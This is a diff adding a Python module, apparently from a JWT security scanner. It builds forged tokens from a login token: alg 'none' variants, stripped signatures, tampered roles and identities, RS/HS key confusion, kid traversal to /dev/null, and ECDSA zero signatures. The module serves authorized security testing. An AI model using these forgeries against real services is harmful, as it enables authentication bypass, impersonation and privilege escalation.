@@ -1,0 +1,213 @@
+"""Forged tokens: what an attacker sends to a protected endpoint, built from a real token.
+
+Each function takes the token the login returned and gives the :class:`ForgedToken` variants of
+one attack, labelled so that a finding can name the ones a server accepted. pyjwt builds what it
+is willing to build (the expired token with the profile's signing key); everything it refuses to
+produce on purpose (alg none, stripped or zero signatures, an RSA public key or an empty key as an
+HMAC secret) is written here byte by byte with :mod:`hmac` and :mod:`hashlib`.
+
+The attacks follow jwt_tool's playbook and RFC 8725: alg none in four spellings (CVE-2015-2951),
+a stripped signature (CVE-2020-28042), a tampered payload under the original signature, RS/HS key
+confusion (CVE-2016-10555), kid path traversal to /dev/null, and ECDSA's zero signature
+(CVE-2022-21449, "psychic signatures").
+"""
+
+from __future__ import annotations
+
+import hashlib
+import hmac
+import json
+import time
+import warnings
+from dataclasses import dataclass
+from typing import Any
+
+import jwt as pyjwt
+
+from .tokens import Jwt, b64url_encode, header_summary
+
+NONE_SPELLINGS = ("none", "None", "NONE", "nOnE")
+KID_TRAVERSAL = "../../../../../../dev/null"
+# r = s = 0: raw r||s as JWS carries it (RFC 7518 §3.4), and the DER form Java's verifier parses
+# (jwt_tool's "psychic signature" MAYCAQACAQA).
+ES256_ZERO_RAW = bytes(64)
+ES256_ZERO_DER = bytes.fromhex("3006020100020100")
+_HMAC = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}
+
+
+@dataclass(frozen=True)
+class ForgedToken:
+    """One forged token and what it is, in words a finding can show."""
+
+    label: str
+    token: str
+
+    def purpose(self, check: str) -> str:
+        return f"forged token ({check}): {self.label}"
+
+
+def segment(value: dict[str, Any]) -> str:
+    """A JSON object as a compact base64url segment."""
+    return b64url_encode(json.dumps(value, separators=(",", ":"), ensure_ascii=False).encode("utf-8"))
+
+
+def assemble(header: str | dict[str, Any], payload: str | dict[str, Any], signature: bytes | str) -> str:
+    head = header if isinstance(header, str) else segment(header)
+    body = payload if isinstance(payload, str) else segment(payload)
+    sig = signature if isinstance(signature, str) else b64url_encode(signature)
+    return f"{head}.{body}.{sig}"
+
+
+def hmac_signature(alg: str, key: bytes, signing_input: bytes) -> bytes:
+    """An HS* signature with any key, the empty one and a PEM included (pyjwt refuses both)."""
+    return hmac.new(key, signing_input, _HMAC[alg]).digest()
+
+
+def hmac_signed(header: dict[str, Any], payload: str | dict[str, Any], key: bytes) -> str:
+    head = segment(header)
+    body = payload if isinstance(payload, str) else segment(payload)
+    signature = hmac_signature(header["alg"], key, f"{head}.{body}".encode("ascii"))
+    return assemble(head, body, signature)
+
+
+# --- the attacks ----------------------------------------------------------------------------
+
+
+def alg_none(token: Jwt) -> list[ForgedToken]:
+    """The header says ``alg: none`` (four spellings), the payload is untouched; signature empty or kept."""
+    forged = []
+    for spelling in NONE_SPELLINGS:
+        header = {**token.header, "alg": spelling}
+        forged.append(ForgedToken(f"header {header_summary(header)}, original payload, empty signature",
+                                  assemble(header, token.segments[1], "")))
+        forged.append(ForgedToken(f"header {header_summary(header)}, original payload, original signature",
+                                  assemble(header, token.segments[1], token.segments[2])))
+    return forged
+
+
+def signature_stripped(token: Jwt) -> list[ForgedToken]:
+    """The original header and payload with no signature, or with a damaged one."""
+    damaged = bytearray(token.signature or b"\x00")
+    damaged[len(damaged) // 2] ^= 0x01
+    return [
+        ForgedToken("original header and payload, signature removed (header.payload.)",
+                    assemble(token.segments[0], token.segments[1], "")),
+        ForgedToken("original header and payload, one bit of the signature flipped",
+                    assemble(token.segments[0], token.segments[1], bytes(damaged))),
+        ForgedToken("original header and payload, signature cut short by 4 characters",
+                    assemble(token.segments[0], token.segments[1], token.segments[2][:-4] or "AAAA")),
+    ]
+
+
+def escalated_roles(payload: dict[str, Any]) -> dict[str, Any]:
+    """The payload with every role-like claim raised to an administrator's."""
+    raised = dict(payload)
+    changed = False
+    for name in ("roles", "role", "scope", "scopes", "groups", "permissions", "authorities"):
+        if name not in raised:
+            continue
+        value = raised[name]
+        if isinstance(value, list):
+            raised[name] = [*value, "ROLE_SUPER_ADMIN", "admin"]
+        elif isinstance(value, str):
+            raised[name] = f"{value} admin ROLE_SUPER_ADMIN".strip()
+        changed = True
+    for name in ("admin", "is_admin", "isAdmin", "is_superuser", "is_staff"):
+        if name in raised:
+            raised[name] = True
+            changed = True
+    if not changed:
+        raised.update({"roles": ["ROLE_SUPER_ADMIN", "admin"], "is_admin": True})
+    return raised
+
+
+def identity_claim_of(payload: dict[str, Any], preferred: str | None) -> str | None:
+    """The claim that names the user: the profile's, else the usual ones in the payload."""
+    for name in (preferred, "sub", "user_id", "username", "email", "uid", "id"):
+        if name and name in payload:
+            return name
+    return None
+
+
+def swapped_identity(value: Any, other: str | None) -> Any:
+    """Another user's identity, of the same type as ``value``."""
+    if isinstance(value, bool):
+        return not value
+    if isinstance(value, int):
+        return value + 1 if value != 1 else 2
+    if other and other != value:
+        return other
+    text = str(value)
+    return f"admin@{text.rsplit('@', 1)[1]}" if "@" in text and not text.startswith("admin@") else "root"
+
+
+def payload_tampered(token: Jwt, *, identity_claim: str | None, other_identity: str | None) -> list[ForgedToken]:
+    """The original header and signature over a changed payload: more rights, or someone else."""
+    forged = []
+    raised = escalated_roles(token.payload)
+    changed = sorted(k for k in raised if raised.get(k) != token.payload.get(k))
+    forged.append(ForgedToken(f"role escalation ({', '.join(changed)} changed), original header and signature",
+                              assemble(token.segments[0], raised, token.segments[2])))
+    claim = identity_claim_of(token.payload, identity_claim)
+    if claim is not None:
+        swapped = {**token.payload, claim: swapped_identity(token.payload[claim], other_identity)}
+        forged.append(ForgedToken(f"identity swapped ({claim} names another user), original header and signature",
+                                  assemble(token.segments[0], swapped, token.segments[2])))
+    return forged
+
+
+def key_confusion(token: Jwt, public_key_pem: bytes) -> list[ForgedToken]:
+    """HS256 keyed with the target's own public key, byte for byte as published (with and without
+    the final newline, which is where implementations differ)."""
+    header = {**token.header, "alg": "HS256"}
+    pem = public_key_pem.strip() + b"\n"
+    forged = []
+    for key, how in ((pem, "PEM with its final newline"), (pem.rstrip(b"\n"), "PEM without the final newline")):
+        forged.append(ForgedToken(f"header {header_summary(header)}, HMAC keyed with the public key ({how})",
+                                  hmac_signed(header, token.segments[1], key)))
+    return forged
+
+
+def kid_injection(token: Jwt) -> list[ForgedToken]:
+    """A ``kid`` that walks out of the key folder to /dev/null, HS256-signed with the empty key it reads."""
+    forged = []
+    for kid in (KID_TRAVERSAL, "/dev/null"):
+        header = {**token.header, "alg": "HS256", "kid": kid}
+        forged.append(ForgedToken(f"header {header_summary(header)}, HMAC keyed with the empty key",
+                                  hmac_signed(header, token.segments[1], b"")))
+    return forged
+
+
+def es256_zero_signature(token: Jwt) -> list[ForgedToken]:
+    """ES256 with r = s = 0, which Java 15-18's ECDSA verifier accepted for any message (CVE-2022-21449)."""
+    header = {**token.header, "alg": "ES256"}
+    return [
+        ForgedToken(f"header {header_summary(header)}, signature r = s = 0 (64 zero bytes)",
+                    assemble(header, token.segments[1], ES256_ZERO_RAW)),
+        ForgedToken(f"header {header_summary(header)}, signature r = s = 0 in DER (MAYCAQACAQA)",
+                    assemble(header, token.segments[1], ES256_ZERO_DER)),
+    ]
+
+
+def expired_payload(payload: dict[str, Any], *, lifetime: int | None, leeway: int,
+                    now: float | None = None) -> dict[str, Any]:
+    """The claims of a token that expired well beyond any leeway: every date moved into the past."""
+    now = time.time() if now is None else now
+    span = lifetime or 3600
+    expired_at = int(now) - max(leeway, 30) - 600
+    moved = {**payload, "iat": expired_at - span, "exp": expired_at}
+    if "nbf" in payload:
+        moved["nbf"] = expired_at - span
+    return moved
+
+
+def expired_signed(token: Jwt, *, key: Any, algorithm: str, lifetime: int | None, leeway: int,
+                   now: float | None = None) -> ForgedToken:
+    """An expired copy of ``token`` signed with the profile's signing key (a test deployment's)."""
+    payload = expired_payload(token.payload, lifetime=lifetime, leeway=leeway, now=now)
+    headers = {k: v for k, v in token.header.items() if k not in ("alg",)}
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")  # short test secrets make pyjwt warn
+        forged = pyjwt.encode(payload, key, algorithm=algorithm, headers=headers)
+    return ForgedToken(f"signed with the profile's signing key ({algorithm}), exp {payload['exp']} "
+                       f"({int((now or time.time()) - payload['exp'])} s ago)", forged)
